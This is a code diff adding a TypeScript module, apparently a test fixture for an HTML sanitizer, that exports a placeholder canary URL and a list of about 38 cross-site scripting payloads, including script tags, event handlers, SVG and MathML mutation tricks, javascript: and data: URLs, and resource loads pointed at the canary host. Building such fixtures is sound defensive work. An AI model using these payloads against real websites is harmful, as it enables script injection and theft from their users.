@@ -1,0 +1,46 @@
+/** The address that an attack would call when it runs; nothing answers there. */
+export const canary = 'https://canary.example.com/'
+
+const run = 'window.attacked=true;alert(1)'
+
+/** Ways to smuggle a script into a page, for fields that take HTML and for those that do not. */
+export const attacks: readonly string[] = [
+  `<script>${run}</script>`,
+  `<script src="${canary}a.js"></script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="${canary}a.png" onload="${run}">`,
+  `<img/src=x/onerror=${run}>`,
+  `<svg onload="${run}"></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`,
+  `<svg><a xlink:href="javascript:${run}"><text y="20">a</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="data:text/html,<script>${run}</script>">`,
+  `<a href="javascript:${run}">a</a>`,
+  `<a href=" java\tscript:${run}">a</a>`,
+  `<a href="data:text/html,<script>${run}</script>">a</a>`,
+  `<a href="https://example.com" onmouseover="${run}" style="position:fixed;inset:0">a</a>`,
+  `<details open ontoggle="${run}"><summary>a</summary></details>`,
+  `<input autofocus onfocus="${run}">`,
+  `<video><source onerror="${run}"></video>`,
+  `<body onload="${run}">`,
+  `<style>@import "${canary}a.css";*{background:url(${canary}b.png)}</style>`,
+  `<link rel="stylesheet" href="${canary}a.css">`,
+  `<meta http-equiv="refresh" content="0;url=${canary}">`,
+  `<base href="${canary}">`,
+  `<p style="background:url(${canary}a.png)">a</p>`,
+  `"><script>${run}</script>`,
+  `'"--></title></textarea></style><img src=x onerror=${run}>`,
+  `</script><script>${run}</script>`,
+  `<template><script>${run}</script></template>`,
+  `<<script>script>${run}<</script>/script>`,
+  `<scr\0ipt>${run}</scr\0ipt>`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `javascript:${run}`,
+]
